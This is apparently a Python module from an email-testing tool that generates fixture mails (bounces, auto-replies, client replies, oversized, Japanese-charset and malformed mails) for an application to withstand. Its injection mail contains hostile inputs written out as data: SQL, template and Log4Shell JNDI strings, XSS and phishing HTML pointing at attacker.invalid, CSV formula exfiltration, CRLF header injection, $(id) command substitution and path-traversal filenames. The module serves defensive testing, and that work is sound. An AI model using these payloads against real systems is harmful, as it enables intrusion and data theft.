"""The ready-made mails that an application must survive, written for an occasion.

Forms and fields are those of real mails: notifications of Postfix and Google (RFC 3464), automatic
replies (RFC 3834), complaints (RFC 5965), and replies of Outlook, Gmail and Apple Mail. Nothing
here has side effects. `write_ready_mail` may run in a worker, since some mails are large.
"""

from base64 import b64encode
from collections.abc import Callable, Mapping

from msgspec import Struct

from mailcheck.checks.content.decoding import end_lines
from mailcheck.core.addresses import Mailbox, parse_mailbox
from mailcheck.core.errors import InvalidParameter
from mailcheck.core.inbound import MailProgram, Place, ReadyMail
from mailcheck.core.instants import Instant
from mailcheck.core.messages import NULL_REVERSE_PATH
from mailcheck.operations.inbound.notices import (
    write_complaint,
    write_delay_notice,
    write_hard_bounce,
    write_out_of_office,
    write_soft_bounce,
)
from mailcheck.operations.inbound.quoting import (
    QuotedMail,
    read_quoted,
    reply_subject,
    thread_headers,
    write_reply,
)
from mailcheck.operations.inbound.scenes import (
    SUBJECT,
    Occasion,
    Original,
    Part,
    Scene,
    multipart,
    octets_part,
    text_part,
    write_mixed,
    write_whole,
)
from mailcheck.operations.write_mail import MAX_NAME, Person

LARGE = 25 * 2**20
"""Maximum number of octets of the large mail, which is at most one line smaller."""

FILES = 100
"""Number of files of the mail with many files."""


class WrittenMail(Struct, frozen=True):
    """A mail with CRLF line ends, and its envelope."""

    envelope_sender: str
    recipient: Mailbox
    raw_message: bytes


_NOTICES = frozenset(
    (ReadyMail.HARD_BOUNCE, ReadyMail.SOFT_BOUNCE, ReadyMail.DELAYED, ReadyMail.OUT_OF_OFFICE)
)
"""The mails with an empty envelope sender. They go to the envelope sender of the original."""


def find_people(name: ReadyMail | None, original: Original) -> tuple[Person, Mailbox]:
    """Return who answers a stored message, and to which address the answer goes.

    The recipient answers. Notifications and automatic replies go to the envelope sender (RFC 3464
    2, RFC 3834 4), and all other mails to Reply-To or From.

    :param name: the ready-made mail; `None` for a reply that a person writes.
    :raises InvalidParameter: the message has no address that can be answered.
    """
    quoted = read_quoted(original.raw_message, Instant(0))
    people = [address for address, _ in quoted.people]
    if name in _NOTICES and original.envelope_sender:
        people.insert(0, original.envelope_sender)
    for text in people:
        try:
            recipient = parse_mailbox(text)
        except ValueError:
            continue
        return _author(original.recipient, quoted), recipient
    raise InvalidParameter("to", "the message has no address that can be answered: send `to`")


def _author(address: str, quoted: QuotedMail) -> Person:
    names = {text.casefold(): name for text, name in quoted.recipients}
    return Person(names.get(address.casefold(), "")[:MAX_NAME], parse_mailbox(address))


def write_ready_mail(name: ReadyMail, occasion: Occasion) -> WrittenMail:
    """Write a ready-made mail."""
    scene = Scene(occasion)
    if name in _NOTICES:
        sender = NULL_REVERSE_PATH
    else:
        sender = str(scene.feedback if name is ReadyMail.COMPLAINT else occasion.author.mailbox)
    return WrittenMail(sender, occasion.recipient, _WRITERS[name](scene))


_ANSWERS = """\
Thank you, that is right.

One more question: when does it arrive?

Best regards
"""


def _write_reply(program: MailProgram, place: Place) -> "_Writer":
    def write(scene: Scene) -> bytes:
        words = f"{_ANSWERS}{scene.author.name}"
        reply = write_reply(scene.quoted, words, program, place)
        return scene.written(
            scene.mail(
                reply_subject(scene.quoted.subject, program),
                reply.text,
                reply.html,
                thread_headers(scene.quoted),
            )
        )

    return write


def _write_empty(scene: Scene) -> bytes:
    lines = scene.header("").split(b"\r\n")
    return b"\r\n".join(line for line in lines if not line.startswith(b"Subject:")) + b"\r\n"


_PATTERN = b64encode(bytes(range(57))) + b"\r\n"


def _write_large(scene: Scene) -> bytes:
    def write(lines: int) -> bytes:
        file = Part(
            (
                'Content-Type: application/octet-stream; name="video.bin"',
                "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="video.bin"',
            ),
            _PATTERN * lines,
        )
        parts = [text_part("The file is attached.\n"), file]
        return write_mixed(scene, scene.header("A large file"), parts)

    return write((LARGE - len(write(0))) // len(_PATTERN))


def _write_many_files(scene: Scene) -> bytes:
    names = [f"photo-{number:03}.txt" for number in range(FILES)]
    names[:10] = ["photo.txt"] * 10
    names[-2:] = ["", "../../etc/passwd"]
    files = [
        Part(
            ("Content-Type: text/plain", f'Content-Disposition: attachment; filename="{name}"'),
            f"File {number}\r\n".encode(),
        )
        for number, name in enumerate(names, 1)
    ]
    parts = [text_part("One hundred files are attached.\n"), *files]
    return write_mixed(scene, scene.header("100 files"), parts)


def _write_forwarded(scene: Scene) -> bytes:
    inside = octets_part(
        end_lines(scene.original.raw_message),
        "Content-Type: message/rfc822",
        "Content-Disposition: attachment",
    )
    parts = [text_part("See the mail below. What shall I answer?\n"), inside]
    header = scene.header(f"Fwd: {scene.quoted.subject}")
    return write_mixed(scene, header, parts)


def _write_japanese(scene: Scene) -> bytes:
    """Return a mail in the charset that Japanese programs used before UTF-8 (RFC 1468)."""
    name, subject, text = (
        one.encode("iso-2022-jp")
        for one in (
            "山田花子",
            "ご注文の確認",
            "お世話になっております。\r\n注文の件、よろしくお願いします。\r\n",
        )
    )
    words = [f"=?ISO-2022-JP?B?{b64encode(word).decode()}?=" for word in (name, subject)]
    header = (
        f"From: {words[0]} <{scene.author.mailbox}>",
        f"To: {scene.recipient}",
        f"Subject: {words[1]}",
        f"Message-ID: <{scene.message_id()}>",
        f"Date: {scene.date()}",
    )
    kind = "Content-Type: text/plain; charset=ISO-2022-JP"
    return write_whole(header, Part((kind, "Content-Transfer-Encoding: 7bit"), text))


def _write_long_subject(scene: Scene) -> bytes:
    words = " ".join(f"word{number}" for number in range(SUBJECT))
    return scene.written(scene.mail(f"{words[: SUBJECT - 1]}.", "See the subject.\n"))


_INJECTED_TEXT = """\
'; TRUNCATE TABLE tickets; --
" OR "1"="1
{{7*7}} ${7*7} <%= 7*7 %> #{7*7}
${jndi:ldap://attacker.invalid/a}
<script>alert(1)</script>
.
QUIT
"""


_INJECTED_HTML = """\
<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=/phish">
<p onmouseover="alert(1)">'; TRUNCATE TABLE tickets; -- {{7*7}}</p>
<script>alert(1)</script><img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg>
<a href="javascript:alert(1)">Open</a> <iframe src="https://attacker.invalid/"></iframe>
<form action="https://attacker.invalid/"><input name="password" type="password"></form>
</textarea></title></style><style>* { display: none }</style>
"""


_INJECTED_FILE = """\
name,amount
=HYPERLINK("https://attacker.invalid/?"&A1;"Open"),+1+1
@SUM(1+1),-2+3
"""


def _write_injection(scene: Scene) -> bytes:
    header = (
        f"From: =?utf-8?q?Ana=0D=0ABcc=3A_victim=40example=2Ecom?= <{scene.author.mailbox}>",
        f"To: {scene.recipient}",
        "Subject: =?utf-8?q?Invoice=0D=0ABcc=3A_victim=40example=2Ecom=0D=0A=0D=0A?=",
        " <script>alert(1)</script> '; TRUNCATE TABLE tickets; -- {{7*7}} ${7*7} %s%n",
        f"Message-ID: <{scene.message_id()}>",
        f"Date: {scene.date()}",
        "X-Priority: 1; `id` $(id) | id",
    )
    file = Part(
        (
            "Content-Type: text/csv",
            "Content-Disposition: attachment;",
            ' filename="../../../../tmp/injection;$(id)<img src=x onerror=alert(1)>.csv"',
        ),
        _INJECTED_FILE.replace("\n", "\r\n").encode(),
    )
    alternative = multipart(
        "alternative",
        scene.digest("alternative"),
        [text_part(_INJECTED_TEXT), text_part(_INJECTED_HTML, "html")],
    )
    return write_mixed(scene, header, [alternative, file])


_Writer = Callable[[Scene], bytes]

_WRITERS: Mapping[ReadyMail, _Writer] = {
    ReadyMail.HARD_BOUNCE: write_hard_bounce,
    ReadyMail.SOFT_BOUNCE: write_soft_bounce,
    ReadyMail.DELAYED: write_delay_notice,
    ReadyMail.OUT_OF_OFFICE: write_out_of_office,
    ReadyMail.COMPLAINT: write_complaint,
    **{
        ReadyMail(f"reply-{program}-{place}"): _write_reply(program, place)
        for program in MailProgram
        for place in Place
    },
    ReadyMail.EMPTY: _write_empty,
    ReadyMail.LARGE: _write_large,
    ReadyMail.MANY_FILES: _write_many_files,
    ReadyMail.FORWARDED: _write_forwarded,
    ReadyMail.ISO_2022_JP: _write_japanese,
    ReadyMail.LONG_SUBJECT: _write_long_subject,
    ReadyMail.INJECTION: _write_injection,
}
